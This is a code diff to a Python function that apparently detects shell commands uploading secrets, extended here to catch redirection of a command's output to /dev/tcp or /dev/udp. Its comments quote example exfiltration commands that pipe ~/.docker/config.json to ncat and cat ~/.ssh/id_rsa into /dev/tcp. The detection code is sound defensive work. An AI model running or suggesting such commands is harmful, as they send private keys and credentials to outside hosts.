@@ -134,7 +134,10 @@ def uploaded_secret(cmd: Cmd) -> str | None:
     if cmd.name in ("scp", "rsync", "sftp"):
         return next((s for o in cmd.operands[:-1] if (s := secret_in(o))), None)
     # `ncat host port < ~/.docker/config.json`: the secret is its input
-    return next((r.target for r in cmd.redirects if r.op == "<" and secret_in(r.target)), None)
+    fed = next((r.target for r in cmd.redirects if r.op == "<" and secret_in(r.target)), None)
+    if fed is None and any(r.op != "<" and r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in cmd.redirects):
+        return secret_source(cmd)  # `cat ~/.ssh/id_rsa > /dev/tcp/…`: what it prints goes out
+    return fed
 
 
 def fed_from_network(cmd: Cmd) -> bool:
